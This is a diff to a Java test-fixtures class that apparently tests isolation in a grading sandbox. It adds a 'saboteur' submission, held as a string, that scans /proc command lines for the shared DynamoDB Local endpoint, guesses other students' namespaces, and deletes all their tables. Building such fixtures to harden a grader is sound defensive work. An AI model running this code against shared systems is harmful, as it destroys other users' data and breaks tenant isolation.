@@ -105,6 +105,62 @@ final class AttackFixtures {
             }
             """;
 
+    /**
+     * Tries for a while to delete its classmates' tables on the DynamoDB Local the batch shares: it looks for the
+     * store's address on every command line it can read (the judges' {@code -Dkata.endpoint=}), and there, under every
+     * namespace it can think of (each classmate's name, numbered as the grader numbers its runs, bare and lower-cased),
+     * deletes the Books table and every table it can list. It needs no answer: the test looks at the classmates' grades.
+     */
+    static String saboteur(java.util.List<String> classmates) {
+        return """
+                java.util.Set<String> stores = new java.util.TreeSet<>();
+                try (var processes = java.nio.file.Files.list(java.nio.file.Path.of("/proc"))) {
+                    for (java.nio.file.Path process : processes.toList()) {
+                        try {
+                            for (String argument : java.nio.file.Files.readString(process.resolve("cmdline")).split("\\u0000")) {
+                                if (argument.startsWith("-Dkata.endpoint=")) {
+                                    stores.add(argument.substring("-Dkata.endpoint=".length()));
+                                }
+                            }
+                        } catch (Exception unreadable) {
+                            // Not this one.
+                        }
+                    }
+                } catch (Exception noProc) {
+                    // Nothing to look through.
+                }
+                java.util.List<String> guesses = new java.util.ArrayList<>();
+                for (String classmate : "%1$s".split(",")) {
+                    for (int index = 1; index <= 12; index++) {
+                        guesses.add(String.format("sub%%03d%%s", index, classmate));
+                    }
+                    guesses.add(classmate);
+                }
+                System.out.println("saboteur: stores " + stores + ", " + guesses.size() + " namespaces to try");
+                long until = System.nanoTime() + 15_000_000_000L;
+                while (System.nanoTime() < until && !stores.isEmpty()) {
+                    for (String store : stores) {
+                        for (String namespace : guesses) {
+                            try (software.amazon.awssdk.services.dynamodb.DynamoDbClient client =
+                                         software.amazon.awssdk.services.dynamodb.DynamoDbClient.builder()
+                                                 .endpointOverride(java.net.URI.create(store))
+                                                 .region(software.amazon.awssdk.regions.Region.US_EAST_1)
+                                                 .credentialsProvider(software.amazon.awssdk.auth.credentials.StaticCredentialsProvider.create(
+                                                         software.amazon.awssdk.auth.credentials.AwsBasicCredentials.create(namespace, "x")))
+                                                 .build()) {
+                                for (String table : client.listTables().tableNames()) {
+                                    client.deleteTable(delete -> delete.tableName(table));
+                                    System.out.println("saboteur: deleted " + table + " of " + namespace);
+                                }
+                            } catch (Exception refused) {
+                                // On to the next.
+                            }
+                        }
+                    }
+                }
+                """.formatted(String.join(",", classmates));
+    }
+
     /** What the vandal writes over whatever it can reach, for the test to look for. */
     static final String VANDAL_MARK = "VANDALISED-BY-A-SUBMISSION";
     /** What the vandal prints before whatever secret it could read. */
